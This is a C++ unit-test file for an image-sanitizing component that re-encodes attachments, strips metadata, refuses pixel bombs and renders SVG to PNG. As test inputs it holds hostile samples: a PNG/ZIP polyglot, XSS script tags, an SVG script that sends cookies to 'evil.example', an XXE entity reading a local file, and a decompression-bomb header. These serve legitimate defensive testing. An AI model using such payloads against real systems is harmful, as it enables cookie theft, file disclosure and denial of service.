// image.reencode with the real libraries: polyglots lose their payload,
// metadata is dropped, every format decodes, pixel bombs are refused before
// decoding, and SVG never leaves as SVG.
#include "image_reencode/image_reencode.h"

#include <gtest/gtest.h>

#include <gif_lib.h>
#include <tiffio.h>
#include <webp/encode.h>

#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "config.h"
#include "image_reencode/image_codecs.h"
#include "image_reencode/pixels.h"
#include "pipeline.h"
#include "policy.h"
#include "registry.h"
#include "test_support.h"

namespace mukaika {
namespace {

namespace fs = std::filesystem;

// ---- helpers ----

// A small test picture: a colour gradient with a black square.
Pixmap picture(int w = 48, int h = 32, PixelFormat f = PixelFormat::Rgb) {
  Pixmap p(w, h, f);
  for (int y = 0; y < h; ++y)
    for (int x = 0; x < w; ++x) {
      unsigned char* px = p.row(y) + static_cast<std::size_t>(x) * p.channels();
      const bool square = x >= 8 && x < 16 && y >= 8 && y < 16;
      const auto r = static_cast<unsigned char>(square ? 0 : x * 5), g = static_cast<unsigned char>(square ? 0 : y * 7),
                 b = static_cast<unsigned char>(square ? 0 : 200);
      switch (f) {
        case PixelFormat::Gray: px[0] = r; break;
        case PixelFormat::GrayAlpha: px[0] = r, px[1] = static_cast<unsigned char>(x * 5); break;
        case PixelFormat::Rgb: px[0] = r, px[1] = g, px[2] = b; break;
        case PixelFormat::Rgba: px[0] = r, px[1] = g, px[2] = b, px[3] = static_cast<unsigned char>(y * 7); break;
      }
    }
  return p;
}

bool same_pixels(const Pixmap& a, const Pixmap& b) {
  return a.width() == b.width() && a.height() == b.height() && a.format() == b.format() &&
         std::memcmp(a.data(), b.data(), a.size()) == 0;
}

bool contains(const std::string& haystack, const std::string& needle) {
  return haystack.find(needle) != std::string::npos;
}

Item image_item(std::string bytes, std::string name, Kind kind = Kind::Image) {
  Item item;
  item.bytes = std::move(bytes);
  item.name = std::move(name);
  item.path = "mail.eml/" + item.name;
  item.kind = kind;
  return item;
}

Outcome reencode(const Item& item, testing::TestContext& t, ImageReencodeOptions o = {}) {
  return image_reencode_sanitizer(o)->process(item, t.ctx);
}

bool has_note(const testing::TestContext& t, const std::string& code) {
  for (const auto& n : t.report.notes)
    if (n.reason.code == code) return true;
  return false;
}

Pixmap decode_png_output(const std::string& bytes) {
  DecodeInfo info;
  return decode_png(bytes, 100'000'000, info);
}

// A PNG chunk with its CRC.
std::string png_chunk(const std::string& type, const std::string& data) {
  std::string out;
  const auto len = static_cast<std::uint32_t>(data.size());
  for (int s = 24; s >= 0; s -= 8) out += static_cast<char>((len >> s) & 0xFF);
  std::string body = type + data;
  std::uint32_t crc = 0xFFFFFFFFu;
  for (unsigned char c : body) {
    crc ^= c;
    for (int k = 0; k < 8; ++k) crc = (crc >> 1) ^ (0xEDB88320u & (0u - (crc & 1u)));
  }
  crc ^= 0xFFFFFFFFu;
  out += body;
  for (int s = 24; s >= 0; s -= 8) out += static_cast<char>((crc >> s) & 0xFF);
  return out;
}

// Inserts chunks right after IHDR.
std::string png_with_chunks(const std::string& png, const std::string& chunks) {
  return png.substr(0, 33) + chunks + png.substr(33);
}

// Inserts JPEG segments right after SOI.
std::string jpeg_with_segments(const std::string& jpeg, const std::string& segments) {
  return jpeg.substr(0, 2) + segments + jpeg.substr(2);
}

std::string jpeg_segment(unsigned char marker, const std::string& data) {
  const auto len = static_cast<unsigned>(data.size() + 2);
  return std::string{'\xFF', static_cast<char>(marker), static_cast<char>(len >> 8), static_cast<char>(len & 0xFF)} +
         data;
}

// EXIF (big-endian TIFF) with only an Orientation tag.
std::string exif_orientation(int orientation) {
  std::string t("Exif\0\0MM\0*\0\0\0\x08\0\x01", 16);
  t += std::string("\x01\x12\0\x03\0\0\0\x01", 8);
  t += static_cast<char>(0), t += static_cast<char>(orientation), t += std::string(2, '\0');
  t += std::string(4, '\0');  // next IFD
  t += "Canon EOS secret-serial-1234";
  return t;
}

std::string read_file(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

// ---- polyglots and metadata ----

TEST(ImageReencode, PngWithZipAppendedLosesTheZip) {
  const Pixmap original = picture();
  const std::string zip = std::string("PK\x03\x04\x14\0\0\0\0\0", 10) + "evil.js" + "WScript.Shell" +
                          std::string("PK\x05\x06", 4) + std::string(18, '\0');
  const std::string polyglot = encode_png(original) + zip;
  testing::TestContext t;
  Outcome o = reencode(image_item(polyglot, "photo.png"), t);
  ASSERT_EQ(o.action, Outcome::Action::Replace) << o.reason.en;
  EXPECT_EQ(o.reason.code, "image.reencoded");
  EXPECT_EQ(o.type, "image/png");
  EXPECT_EQ(o.name, "photo.png");
  EXPECT_FALSE(contains(o.bytes, "PK"));
  EXPECT_FALSE(contains(o.bytes, "WScript"));
  EXPECT_TRUE(same_pixels(decode_png_output(o.bytes), original));
  EXPECT_TRUE(has_note(t, "image.trailing_data"));
}

TEST(ImageReencode, PngTextChunksAreDropped) {
  const std::string png = png_with_chunks(
      encode_png(picture()), png_chunk("tEXt", std::string("Comment\0<script>alert(1)</script>", 33)) +
                                 png_chunk("iTXt", std::string("XML:com.adobe.xmp\0\0\0\0\0", 23) +
                                                       "<x:xmpmeta>GPS 35.68N</x:xmpmeta>"));
  testing::TestContext t;
  Outcome o = reencode(image_item(png, "a.png"), t);
  ASSERT_EQ(o.action, Outcome::Action::Replace) << o.reason.en;
  for (const char* s : {"tEXt", "iTXt", "script", "xmpmeta", "GPS"}) EXPECT_FALSE(contains(o.bytes, s)) << s;
}

TEST(ImageReencode, JpegLosesExifCommentsAndXmpButKeepsOrientation) {
  const Pixmap original = picture(40, 20);
  const std::string jpeg =
      jpeg_with_segments(encode_jpeg(original, 95),
                         jpeg_segment(0xE1, exif_orientation(6)) +
                             jpeg_segment(0xE1, "http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>secret</x:xmpmeta>") +
                             jpeg_segment(0xFE, "comment: password=hunter2"));
  testing::TestContext t;
  Outcome o = reencode(image_item(jpeg + "trailing-script", "IMG_0001.JPG"), t);
  ASSERT_EQ(o.action, Outcome::Action::Replace) << o.reason.en;
  EXPECT_EQ(o.type, "image/jpeg");
  EXPECT_EQ(o.name, "IMG_0001.jpg");
  for (const char* s : {"Exif", "Canon", "secret", "xap", "hunter2", "trailing-script"})
    EXPECT_FALSE(contains(o.bytes, s)) << s;
  DecodeInfo info;
  const Pixmap out = decode_jpeg(o.bytes, 1'000'000, info);
  EXPECT_EQ(out.width(), 20);  // rotated 90 degrees, as a viewer shows it
  EXPECT_EQ(out.height(), 40);
  EXPECT_TRUE(has_note(t, "image.orientation"));
  EXPECT_TRUE(has_note(t, "image.trailing_data"));
}

// ---- every format ----

TEST(ImageReencode, GifFirstFrameWithTransparency) {
  const fs::path path = fs::path(::testing::TempDir()) / "anim.gif";
  {
    int error = 0;
    GifFileType* gif = EGifOpenFileName(path.c_str(), false, &error);
    ASSERT_NE(gif, nullptr);
    GifColorType colors[4] = {{255, 0, 0}, {0, 255, 0}, {0, 0, 255}, {0, 0, 0}};
    ColorMapObject* map = GifMakeMapObject(4, colors);
    EGifPutScreenDesc(gif, 8, 4, 2, 0, map);
    for (int frame = 0; frame < 2; ++frame) {
      GraphicsControlBlock gcb{0, false, 10, 3};  // index 3 transparent
      GifByteType ext[4];
      EGifGCBToExtension(&gcb, ext);
      EGifPutExtension(gif, GRAPHICS_EXT_FUNC_CODE, 4, ext);
      EGifPutImageDesc(gif, 0, 0, 8, 4, false, nullptr);
      for (int y = 0; y < 4; ++y) {
        GifPixelType line[8];
        for (int x = 0; x < 8; ++x) line[x] = static_cast<GifPixelType>(x == 7 ? 3 : (frame == 0 ? y % 3 : 2));
        EGifPutLine(gif, line, 8);
      }
    }
    GifFreeMapObject(map);
    EGifCloseFile(gif, &error);
  }
  testing::TestContext t;
  Outcome o = reencode(image_item(read_file(path), "anim.gif"), t);
  ASSERT_EQ(o.action, Outcome::Action::Replace) << o.reason.en;
  EXPECT_EQ(o.name, "anim.png");
  const Pixmap p = decode_png_output(o.bytes);
  ASSERT_EQ(p.format(), PixelFormat::Rgba);
  ASSERT_EQ(p.width(), 8);
  ASSERT_EQ(p.height(), 4);
  const unsigned char* row1 = p.row(1);  // y = 1: green (index 1) from the first frame
  EXPECT_EQ(row1[0], 0);
  EXPECT_EQ(row1[1], 255);
  EXPECT_EQ(row1[3], 255);
  EXPECT_EQ(row1[7 * 4 + 3], 0);  // transparent column
  EXPECT_TRUE(has_note(t, "image.first_frame"));
}

std::string bmp(int w, int h, int bpp, bool top_down = false) {
  const int stride = ((w * bpp + 31) / 32) * 4;
  const int palette = bpp <= 8 ? (1 << bpp) * 4 : 0;
  const int offset = 14 + 40 + palette;
  std::string b(static_cast<std::size_t>(offset + stride * h), '\0');
  auto le32 = [&](std::size_t at, std::uint32_t v) {
    for (int i = 0; i < 4; ++i) b[at + i] = static_cast<char>((v >> (8 * i)) & 0xFF);
  };
  b[0] = 'B', b[1] = 'M';
  le32(2, static_cast<std::uint32_t>(b.size()));
  le32(10, static_cast<std::uint32_t>(offset));
  le32(14, 40);
  le32(18, static_cast<std::uint32_t>(w));
  le32(22, static_cast<std::uint32_t>(top_down ? -h : h));
  b[26] = 1;
  b[28] = static_cast<char>(bpp);
  for (int i = 0; i < palette / 4; ++i) b[54 + 4 * i + 2] = static_cast<char>(i * 40);  // red ramp
  for (int y = 0; y < h; ++y)
    for (int x = 0; x < w; ++x) {
      char* px = &b[static_cast<std::size_t>(offset + y * stride)];
      if (bpp == 24) px[3 * x] = 10, px[3 * x + 1] = static_cast<char>(20 + y), px[3 * x + 2] = static_cast<char>(x);
      if (bpp == 8) px[x] = static_cast<char>(x % 6);
    }
  return b;
}

TEST(ImageReencode, Bmp) {
  {
    testing::TestContext t;
    Outcome o = reencode(image_item(bmp(5, 3, 24), "scan.bmp"), t);
    ASSERT_EQ(o.action, Outcome::Action::Replace) << o.reason.en;
    EXPECT_EQ(o.name, "scan.png");
    const Pixmap p = decode_png_output(o.bytes);
    ASSERT_EQ(p.width(), 5);
    // Bottom-up: the file's first row is the picture's last.
    EXPECT_EQ(p.row(2)[3 * 4], 4);       // red = x
    EXPECT_EQ(p.row(2)[3 * 4 + 1], 20);  // green = 20 + file row 0
    EXPECT_EQ(p.row(0)[3 * 4 + 1], 22);
    EXPECT_EQ(p.row(0)[3 * 4 + 2], 10);
  }
  {
    testing::TestContext t;
    Outcome o = reencode(image_item(bmp(7, 2, 8, true), "pal.bmp"), t);
    ASSERT_EQ(o.action, Outcome::Action::Replace) << o.reason.en;
    const Pixmap p = decode_png_output(o.bytes);
    EXPECT_EQ(p.row(0)[3 * 5], 200);  // palette index 5 = red 200
  }
  {
    std::string rle = bmp(4, 4, 8);
    rle[30] = 1;  // BI_RLE8
    testing::TestContext t;
    Outcome o = reencode(image_item(rle, "rle.bmp"), t);
    EXPECT_EQ(o.action, Outcome::Action::Remove);
    EXPECT_EQ(o.reason.code, "image.unsupported");
  }
  {
    std::string truncated = bmp(64, 64, 24).substr(0, 500);
    testing::TestContext t;
    Outcome o = reencode(image_item(truncated, "cut.bmp"), t);
    EXPECT_EQ(o.action, Outcome::Action::Block);
    EXPECT_EQ(o.reason.code, "image.broken");
  }
}

TEST(ImageReencode, TiffFirstPage) {
  const fs::path path = fs::path(::testing::TempDir()) / "scan.tif";
  const Pixmap original = picture(16, 8);
  {
    TIFF* tif = TIFFOpen(path.c_str(), "w");
    ASSERT_NE(tif, nullptr);
    for (int page = 0; page < 2; ++page) {
      TIFFSetField(tif, TIFFTAG_IMAGEWIDTH, 16);
      TIFFSetField(tif, TIFFTAG_IMAGELENGTH, 8);
      TIFFSetField(tif, TIFFTAG_SAMPLESPERPIXEL, 3);
      TIFFSetField(tif, TIFFTAG_BITSPERSAMPLE, 8);
      TIFFSetField(tif, TIFFTAG_PHOTOMETRIC, PHOTOMETRIC_RGB);
      TIFFSetField(tif, TIFFTAG_PLANARCONFIG, PLANARCONFIG_CONTIG);
      TIFFSetField(tif, TIFFTAG_COMPRESSION, COMPRESSION_LZW);
      TIFFSetField(tif, TIFFTAG_IMAGEDESCRIPTION, "scanner serial 998877");
      for (int y = 0; y < 8; ++y) TIFFWriteScanline(tif, const_cast<unsigned char*>(original.row(y)), static_cast<unsigned>(y), 0);
      TIFFWriteDirectory(tif);
    }
    TIFFClose(tif);
  }
  testing::TestContext t;
  Outcome o = reencode(image_item(read_file(path), "scan.tif"), t);
  ASSERT_EQ(o.action, Outcome::Action::Replace) << o.reason.en;
  EXPECT_FALSE(contains(o.bytes, "998877"));
  EXPECT_TRUE(same_pixels(decode_png_output(o.bytes), original));
  EXPECT_TRUE(has_note(t, "image.first_frame"));
}

TEST(ImageReencode, WebpLossless) {
  const Pixmap original = picture(20, 10);
  std::uint8_t* out = nullptr;
  const std::size_t n = WebPEncodeLosslessRGB(original.data(), 20, 10, 60, &out);
  ASSERT_GT(n, 0u);
  const std::string webp(reinterpret_cast<const char*>(out), n);
  WebPFree(out);
  testing::TestContext t;
  Outcome o = reencode(image_item(webp, "x.webp"), t);
  ASSERT_EQ(o.action, Outcome::Action::Replace) << o.reason.en;
  EXPECT_EQ(o.name, "x.png");
  EXPECT_TRUE(same_pixels(decode_png_output(o.bytes), original));
}

TEST(ImageReencode, OutputLayoutIsTheSmallestLossless) {
  // Gray stays gray; an alpha channel that is opaque everywhere goes.
  Pixmap rgba = picture(10, 10, PixelFormat::Rgba);
  for (int y = 0; y < 10; ++y)
    for (int x = 0; x < 10; ++x) rgba.row(y)[4 * x + 3] = 255;
  testing::TestContext t;
  Outcome o = reencode(image_item(encode_png(rgba), "opaque.png"), t);
  EXPECT_EQ(decode_png_output(o.bytes).format(), PixelFormat::Rgb);
  Outcome g = reencode(image_item(encode_png(picture(10, 10, PixelFormat::Gray)), "g.png"), t);
  EXPECT_EQ(decode_png_output(g.bytes).format(), PixelFormat::Gray);
  Outcome a = reencode(image_item(encode_png(picture(10, 10, PixelFormat::Rgba)), "a.png"), t);
  EXPECT_TRUE(same_pixels(decode_png_output(a.bytes), picture(10, 10, PixelFormat::Rgba)));
}

// ---- bombs and broken files ----

TEST(ImageReencode, PixelLimitRefusesA40000By40000PngBeforeDecoding) {
  // A valid IHDR for 40000 x 40000 gray, then a tiny IDAT: 1.6 gigapixels
  // declared in a few dozen bytes.
  std::string ihdr;
  for (std::uint32_t v : {40000u, 40000u})
    for (int s = 24; s >= 0; s -= 8) ihdr += static_cast<char>((v >> s) & 0xFF);
  ihdr += std::string("\x08\x00\x00\x00\x00", 5);
  const std::string png = std::string("\x89PNG\r\n\x1a\n", 8) + png_chunk("IHDR", ihdr) +
                          png_chunk("IDAT", std::string("\x78\x9c\x03\x00\x00\x00\x00\x01", 8)) + png_chunk("IEND", "");
  testing::TestContext t;
  Outcome o = reencode(image_item(png, "bomb.png"), t);
  ASSERT_EQ(o.action, Outcome::Action::Block);
  EXPECT_EQ(o.reason.code, "image.pixels");
  EXPECT_TRUE(contains(o.reason.en, "40000×40000"));
  EXPECT_TRUE(contains(o.reason.ja, "上限"));
}

TEST(ImageReencode, PixelLimitForOtherFormats) {
  ImageReencodeOptions small;
  small.max_pixels = 100;
  testing::TestContext t;
  EXPECT_EQ(reencode(image_item(encode_jpeg(picture(), 80), "a.jpg"), t, small).reason.code, "image.pixels");
  EXPECT_EQ(reencode(image_item(bmp(50, 50, 24), "a.bmp"), t, small).reason.code, "image.pixels");
  // A GIF whose logical screen is 65535 x 65535.
  std::string gif = std::string("GIF89a\xFF\xFF\xFF\xFF\x00\x00\x00", 13) +
                    std::string(",\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0;", 16);
  EXPECT_EQ(reencode(image_item(gif, "a.gif"), t).reason.code, "image.pixels");
}

TEST(ImageReencode, BrokenAndUnknownImages) {
  testing::TestContext t;
  const std::string png = encode_png(picture());
  Outcome truncated = reencode(image_item(png.substr(0, png.size() / 2), "cut.png"), t);
  EXPECT_EQ(truncated.action, Outcome::Action::Block);
  EXPECT_EQ(truncated.reason.code, "image.broken");
  Outcome ico = reencode(image_item(std::string("\0\0\1\0\1\0\x10\x10", 8) + std::string(100, 'x'), "a.ico"), t);
  EXPECT_EQ(ico.action, Outcome::Action::Remove);
  EXPECT_EQ(ico.reason.code, "image.unsupported");
  Outcome garbage = reencode(image_item(std::string("\xFF\xD8\xFF\xE0 not really", 15), "b.jpg"), t);
  EXPECT_EQ(garbage.action, Outcome::Action::Block);
}

// ---- SVG ----

TEST(ImageReencode, SvgWithScriptBecomesPng) {
  const std::string svg =
      "<svg xmlns='http://www.w3.org/2000/svg' width='120' height='80' onload='alert(1)'>"
      "<script>fetch('http://evil.example/steal?c='+document.cookie)</script>"
      "<rect width='120' height='80' fill='#00ff00'/>"
      "<a href='javascript:alert(2)'><text x='10' y='40'>click</text></a></svg>";
  testing::TestContext t;
  Outcome o = reencode(image_item(svg, "logo.svg", Kind::Svg), t);
  ASSERT_EQ(o.action, Outcome::Action::Replace) << o.reason.en;
  EXPECT_EQ(o.reason.code, "image.svg_rendered");
  EXPECT_EQ(o.type, "image/png");
  EXPECT_EQ(o.name, "logo.png");
  EXPECT_TRUE(o.bytes.starts_with("\x89PNG"));
  for (const char* s : {"<svg", "script", "alert", "evil.example", "javascript"}) EXPECT_FALSE(contains(o.bytes, s)) << s;
  const Pixmap p = decode_png_output(o.bytes);
  EXPECT_EQ(p.width(), 120);
  EXPECT_EQ(p.height(), 80);
  ASSERT_GE(p.channels(), 3);
  EXPECT_EQ(p.row(70)[p.channels() * 100 + 1], 255);  // the green rectangle was drawn
}

// Counts pure red and dark pixels of a rendered SVG.
void count_pixels(const Pixmap& p, int& red, int& dark) {
  red = dark = 0;
  for (int y = 0; y < p.height(); ++y)
    for (int x = 0; x < p.width(); ++x) {
      const unsigned char* px = p.row(y) + x * p.channels();
      const bool color = p.format() == PixelFormat::Rgb || p.format() == PixelFormat::Rgba;
      const bool has_alpha = p.format() == PixelFormat::GrayAlpha || p.format() == PixelFormat::Rgba;
      const int r = px[0], g = color ? px[1] : px[0], b = color ? px[2] : px[0];
      const bool opaque = !has_alpha || px[p.channels() - 1] > 100;
      if (opaque && r > 200 && g < 50 && b < 50) ++red;
      if (opaque && r < 100 && g < 100 && b < 100) ++dark;
    }
}

TEST(ImageReencode, SvgLoadsNoFiles) {
  // A red PNG on disk, referenced by file: URL, absolute path and relative
  // path. (With a base file, librsvg would draw the relative one.)
  const fs::path dir = fs::path(::testing::TempDir()) / "svg_refs";
  fs::create_directories(dir);
  Pixmap red(50, 50, PixelFormat::Rgb);
  for (int y = 0; y < 50; ++y)
    for (int x = 0; x < 50; ++x) red.row(y)[3 * x] = 255;
  std::ofstream(dir / "red.png", std::ios::binary) << encode_png(red);
  const std::string svg = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' "
                          "width='100' height='100'><rect width='100' height='100' fill='white'/>"
                          "<image x='0' y='0' width='50' height='50' xlink:href='file://" + (dir / "red.png").string() +
                          "'/><image x='50' y='0' width='50' height='50' href='" + (dir / "red.png").string() +
                          "'/><image x='0' y='50' width='50' height='50' href='red.png'/>"
                          "<image x='50' y='50' width='50' height='50' href='http://127.0.0.1:9/red.png'/></svg>";
  testing::TestContext t;
  Outcome o = reencode(image_item(svg, "refs.svg", Kind::Svg), t);
  ASSERT_EQ(o.action, Outcome::Action::Replace) << o.reason.en;
  int red_pixels, dark_pixels;
  count_pixels(decode_png_output(o.bytes), red_pixels, dark_pixels);
  EXPECT_EQ(red_pixels, 0) << "an external image was loaded";
  // A data: URL inside the document is part of it and is drawn.
  const std::string inline_svg = "<svg xmlns='http://www.w3.org/2000/svg' width='50' height='50'><image width='50' "
                                 "height='50' href='data:image/png;base64," +
                                 [&] {
                                   const std::string png = encode_png(red);
                                   static const char* b64 =
                                       "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
                                   std::string out;
                                   for (std::size_t i = 0; i < png.size(); i += 3) {
                                     unsigned v = static_cast<unsigned char>(png[i]) << 16;
                                     if (i + 1 < png.size()) v |= static_cast<unsigned char>(png[i + 1]) << 8;
                                     if (i + 2 < png.size()) v |= static_cast<unsigned char>(png[i + 2]);
                                     out += b64[(v >> 18) & 63];
                                     out += b64[(v >> 12) & 63];
                                     out += i + 1 < png.size() ? b64[(v >> 6) & 63] : '=';
                                     out += i + 2 < png.size() ? b64[v & 63] : '=';
                                   }
                                   return out;
                                 }() +
                                 "'/></svg>";
  Outcome inl = reencode(image_item(inline_svg, "inline.svg", Kind::Svg), t);
  ASSERT_EQ(inl.action, Outcome::Action::Replace) << inl.reason.en;
  count_pixels(decode_png_output(inl.bytes), red_pixels, dark_pixels);
  EXPECT_GT(red_pixels, 2000);
}

TEST(ImageReencode, SvgExpandsNoExternalEntities) {
  const fs::path dir = fs::path(::testing::TempDir()) / "svg_refs";
  fs::create_directories(dir);
  std::ofstream(dir / "secret.txt") << "TOPSECRET TOPSECRET TOPSECRET";
  const std::string svg = "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file://" + (dir / "secret.txt").string() +
                          "'>]><svg xmlns='http://www.w3.org/2000/svg' width='300' height='100'>"
                          "<rect width='300' height='100' fill='white'/>"
                          "<text x='5' y='60' font-size='30' fill='black'>&x;</text></svg>";
  testing::TestContext t;
  Outcome o = reencode(image_item(svg, "xxe.svg", Kind::Svg), t);
  if (o.action == Outcome::Action::Block) {
    EXPECT_EQ(o.reason.code, "image.broken");  // librsvg 2.54 refuses the document: safe
    return;
  }
  ASSERT_EQ(o.action, Outcome::Action::Replace) << o.reason.en;
  int red_pixels, dark_pixels;
  count_pixels(decode_png_output(o.bytes), red_pixels, dark_pixels);
  EXPECT_EQ(dark_pixels, 0) << "an external entity was expanded";
}

TEST(ImageReencode, SvgWithoutSizeAndHugeSvg) {
  testing::TestContext t;
  Outcome o = reencode(image_item("<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 200 100'>"
                                  "<circle cx='50' cy='50' r='40'/></svg>",
                                  "c.svg", Kind::Svg),
                       t);
  ASSERT_EQ(o.action, Outcome::Action::Replace) << o.reason.en;
  Pixmap p = decode_png_output(o.bytes);
  EXPECT_EQ(p.width(), 1024);
  EXPECT_EQ(p.height(), 512);
  // Declared 100000 x 100000: drawn smaller, within the pixel budget.
  ImageReencodeOptions options;
  options.max_pixels = 1'000'000;
  Outcome huge = reencode(image_item("<svg xmlns='http://www.w3.org/2000/svg' width='100000' height='100000'>"
                                     "<rect width='100%' height='100%' fill='blue'/></svg>",
                                     "h.svg", Kind::Svg),
                          t, options);
  ASSERT_EQ(huge.action, Outcome::Action::Replace) << huge.reason.en;
  p = decode_png_output(huge.bytes);
  EXPECT_LE(static_cast<std::uint64_t>(p.width()) * p.height(), 1'000'000u);
  EXPECT_GE(p.width(), 990);
}

TEST(ImageReencode, SvgCanBeRemovedInstead) {
  ImageReencodeOptions options;
  options.render_svg = false;
  testing::TestContext t;
  Outcome o = reencode(image_item("<svg xmlns='http://www.w3.org/2000/svg'/>", "x.svg", Kind::Svg), t, options);
  EXPECT_EQ(o.action, Outcome::Action::Remove);
  EXPECT_EQ(o.reason.code, "image.svg_removed");
}

TEST(ImageReencode, BrokenSvgIsBlocked) {
  testing::TestContext t;
  Outcome o = reencode(image_item("<svg xmlns='http://www.w3.org/2000/svg'><unclosed", "x.svg", Kind::Svg), t);
  EXPECT_EQ(o.action, Outcome::Action::Block);
  EXPECT_EQ(o.reason.code, "image.broken");
}

// ---- options ----

TEST(ImageReencode, Options) {
  auto parse = [](const std::string& toml) { return make_image_reencode(toml::parse(toml)); };
  EXPECT_NO_THROW(parse("jpeg_quality = 90\nmax_pixels = 1000\nsvg = \"remove\"\nsvg_size = 512\n"));
  EXPECT_THROW(parse("jpeg_quality = 5"), ConfigError);
  EXPECT_THROW(parse("max_pixels = 0"), ConfigError);
  EXPECT_THROW(parse("svg = \"keep\""), ConfigError);
  EXPECT_THROW(parse("svg = true"), ConfigError);
  EXPECT_THROW(parse("exif = false"), ConfigError);
  auto s = parse("");
  EXPECT_EQ(s->name(), "image.reencode");
  EXPECT_EQ(s->handles(), (std::vector<Kind>{Kind::Image, Kind::Svg}));
}

// ---- the default policy, end to end in-process ----

TEST(ImageReencodeDefaults, PolyglotPngAndScriptedSvgThroughThePipeline) {
  SanitizerRegistry registry;
  register_builtin_sanitizers(registry);
  const Config config = load_config(std::nullopt, registry);
  Policy policy(config, registry);
  testing::MarkerScanner scanner;
  Pipeline pipeline(policy, scanner, config.limits, config.language);

  Item png;
  png.bytes = encode_png(picture()) + std::string("PK\x03\x04", 4) + "payload.exe";
  png.name = "写真.png";
  auto r = pipeline.run(std::move(png));
  ASSERT_EQ(r.verdict, PipelineResult::Verdict::Sanitized) << r.item.reason.en;
  EXPECT_EQ(r.item.reason.code, "image.reencoded");
  EXPECT_FALSE(contains(r.item.bytes, "payload.exe"));

  Item svg;
  svg.bytes = "<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><script>alert(1)</script></svg>";
  svg.name = "icon.svg";
  r = pipeline.run(std::move(svg));
  ASSERT_EQ(r.verdict, PipelineResult::Verdict::Sanitized) << r.item.reason.en;
  EXPECT_EQ(r.item.name, "icon.png");
  EXPECT_EQ(r.item.type, "image/png");
  EXPECT_FALSE(contains(r.item.bytes, "<svg"));
}

}  // namespace
}  // namespace mukaika
